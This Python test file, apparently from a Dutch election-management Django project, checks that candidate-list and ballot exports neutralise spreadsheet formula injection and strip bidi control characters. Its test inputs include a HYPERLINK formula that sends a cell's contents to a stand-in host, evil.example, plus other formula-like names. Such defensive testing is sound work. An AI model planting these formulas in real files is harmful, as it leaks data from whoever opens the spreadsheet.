"""No spreadsheet the project writes runs what someone typed: a name that starts like a formula
is written as text (core.spreadsheet_safe), in the Kiesraad's CSV and XLSX and in the ballot
exports, and the ranked ballots still read back for a recount."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from counting.export import parse_csv, rankings_csv, rankings_json
from exports.services import ExportFormat, candidate_list_export
from exports.spreadsheet import HEADERS
from tests.exports.conftest import pdf_text
from tests.voting.conftest import make_meeting, make_poll, make_voters
from voting.services import ballot_cast, poll_close, poll_open

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
SUM = "+SUM(1,2)"


def export(data, file_format):
    return candidate_list_export(
        vacancy=data["vacancy"], file_format=file_format, actor=None, language="nl"
    ).content


@pytest.fixture
def formula_list(kiesraad_list):
    """The Kiesraad list with a surname and a place typed as formulas."""
    first, second = kiesraad_list["applications"][:2]
    first.last_name = HYPERLINK
    first.save(update_fields=["last_name"])
    second.place_of_residence = SUM
    second.save(update_fields=["place_of_residence"])
    return kiesraad_list


def test_the_xlsx_holds_no_formula_only_text(formula_list):
    sheet = load_workbook(io.BytesIO(export(formula_list, ExportFormat.XLSX))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert [cell for cell in cells if cell.data_type == "f"] == []
    surname = sheet.cell(row=2, column=HEADERS.index("achternaam") + 1)
    place = sheet.cell(row=3, column=HEADERS.index("woonplaats") + 1)
    assert (surname.value, surname.data_type) == ("'" + HYPERLINK, "s")
    assert (place.value, place.data_type) == ("'" + SUM, "s")
    # Numbers and dates stay numbers and dates.
    assert sheet["A2"].value == 1
    assert sheet.cell(row=2, column=HEADERS.index("geboortedatum") + 1).is_date


def test_the_csv_puts_a_quote_before_a_formula(formula_list):
    text = export(formula_list, ExportFormat.CSV).decode()
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))

    assert rows[0]["achternaam"] == "'" + HYPERLINK
    assert rows[1]["woonplaats"] == "'" + SUM
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [value for row in rows for value in row.values() if value.startswith(starts)]


LABELS = {1: "-Anna", 2: "=Bram", 3: "'t Hart", 4: "@Chris", 5: "Dina"}
RANKINGS = [[1, 2, 3], [2, 1], [3, 4, 5], [4], [5, 1], []]


def test_a_ranked_csv_quotes_formulas_and_reads_back_the_same_ballots():
    text = rankings_csv(RANKINGS, labels=LABELS)
    cells = [row[0] for row in csv.reader(io.StringIO(text), delimiter=";")][1:]

    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert "'-Anna>=Bram>'t Hart" in cells
    read = parse_csv(text)
    expected = sorted(tuple(LABELS[pk] for pk in ranking) for ranking in RANKINGS)
    assert sorted(read.ballots) == expected


def test_tally_recounts_the_csv_as_it_counts_the_json(tmp_path, capsys):
    """``manage.py tally`` reads the quoted CSV to the same result as the JSON."""
    as_csv = tmp_path / "stembiljetten.csv"
    as_csv.write_text(rankings_csv(RANKINGS, labels=LABELS), encoding="utf-8")
    as_json = tmp_path / "stembiljetten.json"
    candidates = sorted(LABELS, key=lambda pk: (LABELS[pk].casefold(), LABELS[pk]))
    as_json.write_text(
        rankings_json(RANKINGS, labels=LABELS, candidates=candidates, method="irv", seed="s"),
        encoding="utf-8",
    )

    call_command("tally", str(as_json), "--json")
    from_json = json.loads(capsys.readouterr().out)
    call_command("tally", str(as_csv), "--method", "irv", "--seed", "s", "--json")
    from_csv = json.loads(capsys.readouterr().out)

    assert from_csv == from_json


def test_the_recount_csv_of_a_poll_quotes_a_candidate_named_like_a_formula(client):
    """The header names the candidates, and an approval lists them: neither may run."""
    meeting = make_meeting()
    voters = make_voters(meeting, 2)
    yes_no = make_poll(meeting, ["=Amal"], title="Voorzitter")
    approval = make_poll(meeting, ["@Rosa", "Kwame"], kind="approval", seats=2, title="Bestuur")
    for poll in (yes_no, approval):
        poll_open(poll=poll, actor=None)
    amal = yes_no.options.get()
    rosa = approval.options.get(label="@Rosa")
    for voter in voters:
        ballot_cast(poll=yes_no, voter=voter, choices={str(amal.pk): "yes"})
        ballot_cast(poll=approval, voter=voter, choices=[rosa.pk])
    for poll in (yes_no, approval):
        poll_close(poll=poll, actor=None)

    cells = []
    for poll in (yes_no, approval):
        url = reverse("voting:ballots_csv", args=[meeting.pk, poll.pk])
        text = client.get(url).content.decode()
        cells += [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]

    assert "'=Amal" in cells and "'@Rosa" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_a_name_stored_with_bidi_controls_reaches_the_list_without_them(kiesraad_list):
    """Names saved before input was cleaned: the Kiesraad's files and the PDF clean them."""
    application = kiesraad_list["applications"][1]
    application.last_name = "\u202eMen\u200bsah\u202c"
    application.place_of_residence = "Amster\u2066dam\u2069"
    application.save(update_fields=["last_name", "place_of_residence"])

    rows = list(
        csv.DictReader(io.StringIO(export(kiesraad_list, ExportFormat.CSV).decode()), delimiter=";")
    )
    sheet = load_workbook(io.BytesIO(export(kiesraad_list, ExportFormat.XLSX))).active
    pdf = pdf_text(export(kiesraad_list, ExportFormat.PDF))[0]

    assert (rows[1]["achternaam"], rows[1]["woonplaats"]) == ("Mensah", "Amsterdam")
    assert sheet.cell(row=3, column=HEADERS.index("achternaam") + 1).value == "Mensah"
    assert "Mensah, K.A. (Kwame) (m)" in pdf and "\u202e" not in pdf
